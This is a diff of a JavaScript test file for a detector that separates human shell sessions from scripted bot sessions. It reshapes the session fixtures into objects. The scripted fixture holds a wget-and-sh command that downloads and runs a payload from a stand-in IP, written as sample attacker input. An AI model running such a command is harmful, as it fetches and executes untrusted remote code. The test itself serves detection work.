@@ -67,7 +67,9 @@ describe('training on too little is refused', () => {
   });
 
   it('scripts without people', () => {
-    expect(() => measureActor(actorSessions([], [['id'], ['ls']]))).toThrow(/one kind only/);
+    expect(() => measureActor(actorSessions([], [{ commands: ['id'] }, { commands: ['ls'] }]))).toThrow(
+      /one kind only/,
+    );
   });
 
   it('a handful of rows for a forest', () => {
@@ -95,19 +97,12 @@ describe('tactic training', () => {
 });
 
 it('people and scripts that type otherwise are told apart, and a person is measured as one group', () => {
-  const people = words.map((word) => [
-    'ls',
-    'cd ..',
-    `cat ${word}`,
-    `cat ${word}s`,
-    'man ls',
-    'clear',
-    'ls',
-    'pwd',
-    `nano ${word}`,
-    'exit',
-  ]);
-  const scripts = words.map((word) => [`cd /tmp; wget http://192.0.2.1/${word}; sh ${word} > /dev/null 2>&1`]);
+  const people = words.map((word) => ({
+    commands: ['ls', 'cd ..', `cat ${word}`, `cat ${word}s`, 'man ls', 'clear', 'ls', 'pwd', `nano ${word}`, 'exit'],
+  }));
+  const scripts = words.map((word) => ({
+    commands: [`cd /tmp; wget http://192.0.2.1/${word}; sh ${word} > /dev/null 2>&1`],
+  }));
   expect(measureActor(actorSessions(people, scripts)).auc).toBeGreaterThan(0.95);
 });
 
